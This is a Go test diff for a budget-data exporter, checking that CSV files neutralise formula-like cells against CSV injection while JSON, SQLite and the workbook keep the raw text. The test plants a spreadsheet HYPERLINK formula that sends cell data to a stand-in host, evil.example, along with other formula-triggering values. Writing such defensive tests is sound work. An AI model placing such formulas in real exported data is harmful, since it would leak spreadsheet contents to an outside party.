@@ -7,6 +7,7 @@ import (
 	"context"
 	"crypto/sha256"
 	"database/sql"
+	"encoding/csv"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
@@ -377,5 +378,111 @@ func BenchmarkEmit1000(b *testing.B) {
 			return nil
 		})
 		b.ReportMetric(float64(size)/1e6, "MB")
+	}
+}
+
+// TestFormulaCellsNeutralized: text from the input that a spreadsheet would
+// read as a formula (a cell starting with = + - @ tab or CR) gets a ' before
+// it in the CSV files, as OWASP advises against CSV injection; numeric
+// columns keep their minus signs, and JSON, NDJSON, SQLite and the workbook
+// keep the true text.
+func TestFormulaCellsNeutralized(t *testing.T) {
+	docs := corpus(t)
+	d := docs[0]
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
+	d.Department.Name = evil
+	d.Department.Region = "+86"
+	d.Document.Source.Path = "@evil.txt"
+	if d.Revenue == nil || len(d.Revenue.Sources) == 0 {
+		t.Fatal("the seed has no revenue sources")
+	}
+	d.Revenue.Sources[0].Name = "-1+1"
+	d.Revenue.Sources[0].Amount = -d.Revenue.Sources[0].Amount
+	negative := d.Revenue.Sources[0].Amount.String()
+	dir := t.TempDir()
+	if _, err := emit.Write(dir, docs, "test"); err != nil {
+		t.Fatal(err)
+	}
+	numeric := map[string]bool{}
+	var pkg struct {
+		Resources []struct {
+			Path, Description string
+			Schema            *struct{ Fields []struct{ Name, Type string } }
+		}
+	}
+	json.Unmarshal(read(t, dir, "datapackage.json"), &pkg)
+	found := map[string]bool{}
+	for _, r := range pkg.Resources {
+		if !strings.HasSuffix(r.Path, ".csv") {
+			continue
+		}
+		if !strings.Contains(r.Description, "has a ' put before it") {
+			t.Errorf("%s: the description does not give the rule: %q", r.Path, r.Description)
+		}
+		for _, f := range r.Schema.Fields {
+			numeric[f.Name] = f.Type == "number" || f.Type == "integer"
+		}
+		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(read(t, dir, r.Path), []byte("\ufeff")))).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", r.Path, err)
+		}
+		for _, rec := range recs[1:] {
+			for j, c := range rec {
+				col := recs[0][j]
+				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !numeric[col] && !(col == "comparator" && c == "=") {
+					t.Errorf("%s: %s cell %q would be read as a formula", r.Path, col, c)
+				}
+				for _, want := range []string{"'" + evil, "'+86", "'@evil.txt", "'-1+1", negative} {
+					if c == want {
+						found[r.Path+" "+want] = true
+					}
+				}
+			}
+		}
+	}
+	for _, p := range []string{"documents.csv", "excel/documents.csv"} {
+		for _, want := range []string{"'" + evil, "'+86", "'@evil.txt"} {
+			if !found[p+" "+want] {
+				t.Errorf("%s: no cell %q", p, want)
+			}
+		}
+	}
+	for _, p := range []string{"line_items.csv", "excel/line_items.csv"} {
+		for _, want := range []string{"'-1+1", negative} {
+			if !found[p+" "+want] {
+				t.Errorf("%s: no cell %q", p, want)
+			}
+		}
+	}
+	// the other formats keep the true value
+	for _, p := range []string{"json/documents.json", "json/documents.ndjson"} {
+		if !bytes.Contains(read(t, dir, p), []byte(`"department":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"`)) {
+			t.Errorf("%s does not hold the department name as it is", p)
+		}
+	}
+	db, err := sql.Open("sqlite", filepath.Join(dir, "budgetpub.sqlite"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	var dep, src string
+	if err := db.QueryRow(`SELECT department, source_file FROM documents WHERE id = ?`, d.ID).Scan(&dep, &src); err != nil || dep != evil || src != "@evil.txt" {
+		t.Errorf("sqlite: %q %q %v", dep, src, err)
+	}
+	f, err := excelize.OpenFile(filepath.Join(dir, "budgetpub.xlsx"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, _ := f.GetRows("documents")
+	for i, row := range rows {
+		if len(row) > 1 && row[0] == d.ID {
+			cell, _ := excelize.CoordinatesToCellName(2, i+1)
+			formula, _ := f.GetCellFormula("documents", cell)
+			typ, _ := f.GetCellType("documents", cell)
+			if row[1] != evil || formula != "" || typ == excelize.CellTypeFormula {
+				t.Errorf("workbook %s = %q, formula %q, type %v: want the text, no formula", cell, row[1], formula, typ)
+			}
+		}
 	}
 }
